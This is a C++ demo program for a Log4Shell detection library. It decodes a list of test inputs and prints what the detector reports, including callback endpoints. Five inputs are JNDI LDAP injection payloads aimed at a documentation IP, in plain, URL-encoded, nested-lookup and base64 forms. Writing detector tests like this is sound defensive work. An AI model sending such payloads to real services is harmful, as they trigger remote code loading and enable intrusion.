// Walks a handful of obfuscated payload shapes through the decode pipeline
// and prints what the detector makes of each.

#include <cstdio>
#include <string>
#include <vector>

#include "telesift/decode.hpp"
#include "telesift/detect.hpp"

using namespace telesift;

int main() {
    const std::vector<std::string> payloads{
        "${jndi:ldap://203.0.113.5/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
        "${${::-j}ndi:ldap://203.0.113.5/a}",
        "j${k8}n${::d}i:ldap://203.0.113.5/a",
        "JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNS9hfQ==",
        "GET /index.html HTTP/1.1",
    };

    for (const auto& payload : payloads) {
        auto decoded = decode_payload(payload);
        auto detection = detect_payload(decoded);
        std::printf("payload:  %s\n", payload.c_str());
        std::printf("  best candidate [%zu]: %s\n", decoded.best,
                    decoded.best_candidate().text.c_str());
        if (detection) {
            auto severity = classify_severity(*detection, decoded);
            std::printf("  detected: severity=%s obfuscated=%s candidates=%zu\n",
                        std::string(severity_name(severity)).c_str(),
                        detection->obfuscated ? "yes" : "no",
                        decoded.candidates.size());
            for (const auto& ep : detection->endpoints)
                std::printf("  callback: %s:%d/%s\n", ep.host.c_str(), ep.port,
                            ep.path.c_str());
        } else {
            std::printf("  no Log4Shell indicators\n");
        }
        std::printf("\n");
    }
    return 0;
}
